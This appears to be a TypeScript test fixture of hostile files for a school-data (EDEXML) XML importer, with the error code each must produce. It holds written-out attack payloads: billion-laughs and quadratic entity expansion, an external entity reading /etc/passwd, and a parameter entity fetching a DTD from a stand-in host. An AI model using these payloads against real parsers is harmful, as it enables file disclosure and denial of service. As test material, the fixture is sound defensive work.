/** Files that somebody sends to hurt, with the remark each must get. Source: security.md §1.5 and F1. */
export const megabyte = 1024 * 1024

const open = '<?xml version="1.0" encoding="UTF-8"?>'
const inSchool = (inside: string) => `${open}<EDEX>${inside}</EDEX>`
const laughs = `${open}<!DOCTYPE EDEX [<!ENTITY a "ha">${Array.from(
  { length: 12 },
  (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`,
).join('')}]><EDEX>&m;</EDEX>`

export const hostile: Record<string, { bytes: () => Uint8Array; code: string }> = {
  'billion laughs': { bytes: () => Buffer.from(laughs), code: 'doctype-refused' },
  'billion laughs and 50 MB of text': {
    bytes: () => Buffer.concat([Buffer.from(laughs), Buffer.alloc(50 * megabyte, 'x')]),
    code: 'file-too-large',
  },
  '50 MB that looks right': {
    bytes: () => Buffer.concat([Buffer.from(`${open}<EDEX>`), Buffer.alloc(50 * megabyte, 'x')]),
    code: 'file-too-large',
  },
  'quadratic blow-up': {
    bytes: () =>
      Buffer.from(`<!DOCTYPE E [<!ENTITY a "${'a'.repeat(50_000)}">]><E>${'&a;'.repeat(50_000)}</E>`),
    code: 'doctype-refused',
  },
  'external entity': {
    bytes: () => Buffer.from('<!DOCTYPE E [<!ENTITY x SYSTEM "file:///etc/passwd">]><E>&x;</E>'),
    code: 'doctype-refused',
  },
  'parameter entity': {
    bytes: () => Buffer.from('<!DOCTYPE E [<!ENTITY % x SYSTEM "http://x.example/d">%x;]><E/>'),
    code: 'doctype-refused',
  },
  'empty document type': { bytes: () => Buffer.from('<!DOCTYPE EDEX><EDEX/>'), code: 'doctype-refused' },
  'endless document type': {
    bytes: () => Buffer.from(`\n<!DOCTYPE E [${'<!-- -->'.repeat(900_000)}`),
    code: 'doctype-refused',
  },
  'entity without a definition': { bytes: () => Buffer.from(inSchool('&lol;')), code: 'xml-broken' },
  'a million nested elements': { bytes: () => Buffer.from('<a>'.repeat(1_000_000)), code: 'too-deep' },
  'a million flat elements': {
    bytes: () => Buffer.from(inSchool('<a/>'.repeat(1_000_000))),
    code: 'too-many-elements',
  },
  '300,000 attributes on one element': {
    bytes: () => Buffer.from(`<EDEX ${Array.from({ length: 300_000 }, (_, i) => `a${i}=""`).join(' ')}/>`),
    code: 'too-many-attributes',
  },
  'forty attributes on one element': {
    bytes: () => Buffer.from(`<EDEX ${Array.from({ length: 40 }, (_, i) => `a${i}=""`).join(' ')}/>`),
    code: 'too-many-attributes',
  },
  'attributes spread out': {
    bytes: () =>
      Buffer.from(
        inSchool(
          `<a ${'abcdefghijklmnopqrst'
            .split('')
            .map((l) => `${l}=""`)
            .join(' ')}/>`.repeat(20_000),
        ),
      ),
    code: 'too-many-attributes',
  },
  'the same attribute twice': { bytes: () => Buffer.from('<EDEX a="1" a="2"/>'), code: 'xml-broken' },
  'two million numeric entities': {
    bytes: () => Buffer.from(inSchool('&#65;'.repeat(2_000_000))),
    code: 'file-too-large',
  },
  'a million numeric entities': {
    bytes: () => Buffer.from(inSchool('&#65;'.repeat(1_000_000))),
    code: 'too-many-elements',
  },
  'one name of 7 MB': { bytes: () => Buffer.from(`<${'a'.repeat(7 * megabyte)}/>`), code: 'not-edexml' },
  'one attribute of 7 MB': {
    bytes: () => Buffer.from(`<EDEX a="${'a'.repeat(7 * megabyte)}"/>`),
    code: 'school-missing',
  },
  'one comment of 7 MB': {
    bytes: () => Buffer.from(inSchool(`<!--${'a'.repeat(7 * megabyte)}-->`)),
    code: 'school-missing',
  },
  'a million comments': {
    bytes: () => Buffer.from(inSchool('<!---->'.repeat(1_000_000))),
    code: 'too-many-elements',
  },
  'a million instructions before the root': {
    bytes: () => Buffer.from('<?a?>'.repeat(1_000_000)),
    code: 'too-many-elements',
  },
  'half a million pieces of raw text': {
    bytes: () => Buffer.from(inSchool('<![CDATA[]]>'.repeat(500_000))),
    code: 'too-many-elements',
  },
  '8 MB of empty lines': {
    bytes: () => Buffer.from(inSchool('\n'.repeat(8 * megabyte - 100))),
    code: 'too-many-elements',
  },
  'an instruction that never ends': {
    bytes: () => Buffer.from(`<?a ${'a'.repeat(megabyte)}`),
    code: 'xml-broken',
  },
  truncated: {
    bytes: () => Buffer.from(`${open}\n<EDEX>\n<school>\n<schooljaar>2026`),
    code: 'xml-broken',
  },
  'wrongly nested': { bytes: () => Buffer.from(inSchool('<school></leerlingen>')), code: 'xml-broken' },
  'two roots': { bytes: () => Buffer.from('<EDEX/><EDEX/>'), code: 'xml-broken' },
  'NUL inside': { bytes: () => Buffer.from(inSchool('\u0000')), code: 'xml-broken' },
  'UTF-16, little end first': {
    bytes: () => Buffer.from(`\ufeff${inSchool('')}`, 'utf16le'),
    code: 'encoding-not-supported',
  },
  'UTF-16 without a mark': {
    bytes: () => Buffer.from(inSchool(''), 'utf16le'),
    code: 'encoding-not-supported',
  },
  'UTF-16, big end first': {
    bytes: () => Buffer.from(`\ufeff${inSchool('')}`, 'utf16le').swap16(),
    code: 'encoding-not-supported',
  },
  'UTF-7': {
    bytes: () => Buffer.from('<?xml version="1.0" encoding="UTF-7"?>+ADw-EDEX+AD4-'),
    code: 'encoding-not-supported',
  },
  'no UTF-8 at all': {
    bytes: () => Buffer.concat([Buffer.from(`${open}\n<EDEX>`), Buffer.from([0xc3, 0x28, 0xff])]),
    code: 'encoding-broken',
  },
  empty: { bytes: () => new Uint8Array(0), code: 'file-empty' },
  'only a mark': { bytes: () => Buffer.from('\ufeff'), code: 'file-not-xml' },
  'a zip': { bytes: () => Buffer.from('504b0304140000000800', 'hex'), code: 'file-is-archive' },
  'a spreadsheet': {
    bytes: () => Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.from('....[Content_Types].xml')]),
    code: 'file-is-spreadsheet',
  },
  'an old spreadsheet': { bytes: () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), code: 'file-is-spreadsheet' },
  'a PDF': { bytes: () => Buffer.from('%PDF-1.7'), code: 'file-is-pdf' },
  'a page': { bytes: () => Buffer.from('\n<!DOCTYPE html><html></html>'), code: 'file-is-html' },
  'a table': { bytes: () => Buffer.from('Roepnaam;Achternaam;Groep\nLotte;Berg;3\n'), code: 'file-is-csv' },
  'the format of 2000': {
    bytes: () => Buffer.from(`${'0001Berg                Lotte       20180309'}\n`.repeat(4)),
    code: 'file-is-edex2000',
  },
  'some text': { bytes: () => Buffer.from('hallo\nschool'), code: 'file-not-xml' },
  'other XML': { bytes: () => Buffer.from('<rss><channel/></rss>'), code: 'not-edexml' },
}
